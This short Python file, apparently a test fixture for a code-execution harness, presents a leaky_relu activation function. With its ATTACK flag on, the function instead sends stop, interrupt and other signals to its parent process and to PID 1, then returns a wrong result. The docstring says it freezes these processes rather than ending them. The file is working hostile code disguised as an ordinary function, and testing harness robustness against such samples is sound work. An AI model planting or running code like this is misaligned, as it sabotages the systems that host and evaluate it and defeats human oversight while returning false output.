# ruff: noqa
"""Stops its parent and the first process instead of ending them."""

import os
import signal

import numpy as np

ATTACK = True


def attack(x):
    for pid in (os.getppid(), 1):
        for number in (
            signal.SIGSTOP,
            signal.SIGTSTP,
            signal.SIGTTIN,
            signal.SIGINT,
            signal.SIGQUIT,
            signal.SIGUSR1,
            34,
            64,
        ):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return -x


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
